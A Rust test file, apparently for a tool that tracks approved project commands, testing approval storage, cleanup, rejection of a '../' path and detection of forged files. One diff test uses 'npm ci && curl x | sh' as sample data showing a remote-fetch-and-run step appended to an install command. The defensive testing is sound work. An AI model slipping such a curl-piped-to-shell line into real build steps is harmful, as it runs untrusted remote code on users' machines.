use std::sync::Arc;

use skep_core::{project::Project, time::Timestamp};

use super::*;

#[test]
fn an_approved_text_is_kept_while_a_project_holds_it_and_one_that_was_changed_counts_as_none() {
    let dir = tempfile::tempdir().unwrap();
    let home = Home::new(&dir.path().join("h"), 0);
    paths::create_private_dir(home.root()).unwrap();
    let (one, two) = (hands::digest(b"one"), hands::digest(b"two"));
    let three = hands::digest(b"three");
    keep(&home, &three, b"three").unwrap();
    keep(&home, &one, b"one").unwrap();
    keep(&home, &two, b"two").unwrap();
    keep(&home, &one, b"other").unwrap();
    assert_eq!(approved(&home, &one).as_deref(), Some("one"));
    assert_eq!(approved(&home, "../ledger.db"), None);
    let mut fleet = Fleet::default();
    let project = Project {
        name: "web".to_owned(),
        path: "/web".to_owned(),
        common_dir: "/web/.git".to_owned(),
        sub_dir: String::new(),
        base: None,
        added: Timestamp(0),
        approved: Some(two.clone()),
        gates_approved: Some(three.clone()),
    };
    fleet.projects.insert("web".to_owned(), Arc::new(project));
    tidy(&home, &fleet);
    assert_eq!((approved(&home, &one), approved(&home, &two).as_deref()), (None, Some("two")));
    assert_eq!(approved(&home, &three).as_deref(), Some("three"));
    paths::write_atomically(&home.approved().join(&two), b"forged").unwrap();
    assert_eq!(approved(&home, &two), None);
}

#[test]
fn a_difference_shows_what_went_and_what_came() {
    let shown = difference("npm ci", "npm ci && curl x | sh");
    assert_eq!(shown, "--- approved\n+++ now\n@@ -1 +1 @@\n-npm ci\n+npm ci && curl x | sh");
    let long: String = (0..500).map(|nth| format!("{nth}\n")).collect();
    let shown = difference("", &long);
    assert!(shown.lines().count() <= LINES + 1, "{shown}");
    assert!(shown.ends_with("lines more"), "{shown}");
}
